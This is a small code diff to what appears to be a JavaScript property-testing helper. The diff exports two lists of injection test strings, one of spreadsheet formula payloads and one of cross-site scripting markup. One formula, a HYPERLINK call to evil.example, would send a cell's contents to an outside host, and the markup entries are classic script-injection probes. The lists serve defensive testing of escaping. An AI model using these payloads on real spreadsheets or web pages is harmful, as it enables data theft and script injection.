@@ -1,7 +1,7 @@
 import fc from 'fast-check'
 
 /** Texts that spreadsheets run as formulas, or that end a cell. */
-const formulas = [
+export const formulas = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?"&A1,"ok")',
   '+1+1',
@@ -23,7 +23,7 @@ const formulas = [
 ]
 
 /** Texts that browsers or XML parsers read as markup. */
-const markup = [
+export const markup = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   "'-alert(1)-'",
